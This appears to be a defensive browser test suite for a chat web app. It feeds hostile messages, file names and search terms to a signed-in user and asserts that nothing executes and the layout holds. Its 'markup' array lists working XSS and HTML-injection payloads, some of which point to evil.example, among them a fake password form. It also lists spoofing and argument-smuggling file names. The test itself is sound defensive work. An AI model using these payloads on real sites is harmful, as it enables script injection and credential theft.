import assert from 'node:assert/strict';
import { after, describe, test } from 'node:test';
import { harmIn, hostileTexts } from '../support/hostile-texts.ts';
import {
  assertUnharmed,
  closeBrowser,
  follow,
  heard,
  libraryClient,
  newPage,
  noBrowser,
  signedIn,
  until,
  webServer,
} from './browser.ts';

after(closeBrowser);

/** Texts that become markup, code or requests in a page that takes them for more than text. */
const markup = [
  '<script>globalThis.harmed = 1</script>',
  '<img src=x onerror="globalThis.harmed = 1">',
  '<svg onload="globalThis.harmed = 1"><animate onbegin=alert(1) attributeName=x>',
  '"><iframe srcdoc="<script>parent.harmed=1</script>">',
  "'-alert(1)-'",
  '</textarea><script>alert(1)</script>',
  '<a href="javascript:alert(1)">click</a>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'http://127.0.0.1:1/<script>alert(1)</script>',
  'https://evil.example/"onmouseover="alert(1)',
  '<style>@import "http://evil.example/x.css"; body { display: none }</style>',
  '<link rel=stylesheet href=http://evil.example/x.css>',
  '<base href="http://evil.example/">',
  '<meta http-equiv=refresh content="0;url=http://evil.example/">',
  '<form action=http://evil.example/><input name=password autofocus>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '{{constructor.constructor("alert(1)")()}}',
  '$' + '{alert(1)}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '[click](javascript:alert(1)) ![](http://evil.example/x.png)',
  '__proto__ constructor toString hasOwnProperty',
];

const layout = [
  'W'.repeat(20_000),
  '\u0e01\u0e33'.repeat(3_000),
  `z${'\u0310'.repeat(3_000)}`,
  '\u05d0'.repeat(500),
  '\u{1f469}\u200d\u{1f469}\u200d\u{1f467} '.repeat(500),
  'a\tb\t'.repeat(500),
];

describe('hostile texts in a browser', { skip: noBrowser }, () => {
  test('nothing runs, nothing is asked of others, the layout holds', async (t) => {
    const server = await webServer(t, { defaultFollow: ['*'] });
    const alice = await signedIn(t, server, 'alice');
    const eve = await libraryClient(t, server, 'eve');
    // What the protocol refuses cannot come.
    for (const text of Object.values(hostileTexts)) await eve.send(`x ${text}`).catch(() => {});
    for (const text of [...markup, ...layout]) await eve.send(text);
    await eve.sendTo('alice', '<script>alert("alone")</script>');
    for (const name of ['<img src=x onerror=alert(1)>.png', 'a\u202egnp.exe', '-rf "x" .html', '..html'])
      await eve
        .attach({ name, content: Buffer.from('<script>alert(1)</script>') }, { terms: ['file'] })
        .catch(() => {});
    await eve.send('the end');
    await heard(alice.page, 'the end');
    await alice.page.evaluate('document.querySelector(".log").scrollTop = 0');
    await until(alice.page, 'document.querySelector(".log").scrollTop === 0');
    for (let step = 0; step < 30; step++) {
      await alice.page.evaluate('document.querySelector(".log").scrollTop += 500');
      await until(alice.page, 'true');
      assert.equal(await alice.page.evaluate('document.documentElement.scrollWidth <= innerWidth'), true);
      assert.equal(
        await alice.page.evaluate(
          '[...document.querySelectorAll(".log script, .log iframe, .log style, .log link, .log form, .log svg")].length',
        ),
        0,
      );
      const shown = (await alice.page.locator('.log').textContent()) ?? '';
      assert.equal(harmIn(shown, 'pipe'), undefined);
    }
    const links = await alice.page.evaluate(
      '[...document.querySelectorAll(".log a")].map((a) => a.href + " " + a.rel)',
    );
    for (const link of links as string[]) assert.match(link, /^https?:.* noopener noreferrer/);
    assert.equal(await alice.page.evaluate('globalThis.harmed'), undefined);
    // Terms are shown at the side and in the title, too.
    for (const term of ['<b>x</b>', 'x"><img/src=x>', 'constructor']) await follow(alice.page, term);
    await alice.page.goto(
      `http://127.0.0.1:${server.port}/?term=${encodeURIComponent('<script>alert(1)</script>')}`,
    );
    await until(alice.page, 'document.querySelector("h1").textContent.includes("script")');
    await assertUnharmed(alice);
  });

  test('marks above and below letters stay in the lines of their message', async (t) => {
    const server = await webServer(t, { defaultFollow: ['*'] });
    const { page } = await signedIn(t, server, 'alice');
    const eve = await libraryClient(t, server, 'eve');
    for (const text of ['plain', `z${'\u0310'.repeat(30)}`, '\u{12219}']) await eve.send(text);
    await heard(page, '\u{12219}');
    const cuts =
      '[...document.querySelectorAll(".log .text")].map((text) => getComputedStyle(text).overflow)';
    assert.deepEqual(await page.evaluate(cuts), ['visible', 'clip', 'clip']);
  });

  test('a page cannot make markup of a string, nor ask another server, even if it tried', async (t) => {
    const server = await webServer(t);
    const { page, faults } = await newPage(t);
    await page.goto(`http://127.0.0.1:${server.port}/`);
    await page.getByLabel('Your name').waitFor();
    const tried = (what: string): Promise<string> =>
      page.evaluate(
        `(async () => { try { await ${what}; return 'done'; } catch (error) { return error.name; } })()`,
      );
    assert.equal(await tried('(document.body.innerHTML = "<b>x</b>")'), 'TypeError');
    assert.equal(await tried('fetch("http://evil.example/")'), 'TypeError');
    assert.equal(await tried('navigator.serviceWorker.register("/other.js")'), 'TypeError');
    assert.equal(await tried('trustedTypes.createPolicy("mine", { createHTML: (x) => x })'), 'TypeError');
    // The other tests count on being told.
    const told = (directive: string) => faults.some((fault) => fault.includes(`violation: ${directive}`));
    for (const directive of ['require-trusted-types-for', 'connect-src'])
      assert.ok(told(directive), `${directive} is not among ${faults.join('\n')}`);
  });
});
